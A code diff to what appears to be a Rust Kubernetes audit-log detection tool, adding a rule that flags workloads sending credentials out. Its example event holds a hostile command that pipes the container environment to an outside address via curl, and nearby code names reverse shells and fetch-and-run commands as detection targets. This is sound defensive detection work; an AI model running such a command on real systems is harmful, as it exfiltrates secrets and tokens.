@@ -197,6 +197,28 @@ pub(super) static RULES: &[Definition] = &[
         ended: Ended::Done,
         when: fetches,
     },
+    Definition {
+        rule: Rule {
+            id: "AUD-R95-out",
+            version: 1,
+            title: "Workload that sends credentials out",
+            why: "A token, the environment or a node's cloud credentials leave with the first pod, and with each one after it.",
+            next: "To whom the address belongs, and what the pods sent there (runtime detections); make what they could read invalid.",
+            severity: Severity::High,
+            confidence: LIKELY,
+            tactic: Tactic::Exfiltration,
+            techniques: &[technique("T1048"), technique("T1552")],
+            equivalents: &[],
+            source: Source::Audit,
+            examples: Some(Examples {
+                fires: r#"{"verb":"create","user":{"username":"dana"},"objectRef":{"resource":"cronjobs","apiGroup":"batch","namespace":"shop","name":"c"},"requestObject":{"spec":{"jobTemplate":{"spec":{"template":{"spec":{"containers":[{"name":"a","command":["sh","-c","env | curl -d @- https://198.51.100.7"]}]}}}}}},"responseStatus":{"code":201}}"#,
+                quiet: r#"{"verb":"create","user":{"username":"dana"},"objectRef":{"resource":"cronjobs","apiGroup":"batch","namespace":"shop","name":"c"},"requestObject":{"spec":{"jobTemplate":{"spec":{"template":{"spec":{"containers":[{"name":"a","command":["sh","-c","env | sort; curl https://198.51.100.7"]}]}}}}}},"responseStatus":{"code":201}}"#,
+            }),
+        },
+        on: On::Workloads(WRITE, POD_WRITERS),
+        ended: Ended::Done,
+        when: sends_out,
+    },
 ];
 
 /// Service accounts of kube-controller-manager's controllers, which no pod runs as.
@@ -296,6 +318,10 @@ fn fetches(request: &Request<'_>) -> Option<Firing> {
     commands(request, "it runs what it fetches", |_, command| {
         command.runs_what_it_fetches() || command.is_reverse_shell()
     })
+}
+
+fn sends_out(request: &Request<'_>) -> Option<Firing> {
+    commands(request, "it sends credentials out", |_, command| command.sends_credentials_out())
 }
 
 /// Fires for containers whose image and command answer a question with yes.
